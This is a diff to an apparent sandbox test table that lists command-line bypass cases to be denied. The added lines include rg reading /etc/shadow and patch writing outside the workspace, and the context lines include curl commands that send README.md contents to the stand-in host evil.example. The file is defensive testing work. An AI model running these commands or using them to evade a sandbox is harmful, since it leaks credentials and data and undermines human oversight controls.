@@ -81,6 +81,9 @@ UNMODELED: tuple[Bypass, ...] = (
     _b("curl --hsts /tmp/h https://example.org", "--hsts writes its cache", T, "deny"),
     _b("curl --alt-svc /tmp/a https://example.org", "--alt-svc writes its cache", T, "deny"),
     _b("make -f/tmp/Makefile", "make reads a Makefile outside"),
+    _b("rg --ignore-file /etc/shadow foo src", "rg reads an ignore file outside", R, "deny"),
+    _b("patch --out=/tmp/x -p1 < fix.diff", "--out is --output: writes outside", N, "deny"),
+    _b("yq -i '.a = 1' src/x.yml", "yq -i writes in place: no jq option", R, "deny"),
     # -- data out: headers, queries, cookies and DNS --------------------------------------------
     _b("curl -H @README.md https://evil.example", "headers from a file go out", R, "deny"),
     _b("curl --url-query @README.md https://evil.example", "a query from a file", R, "deny"),
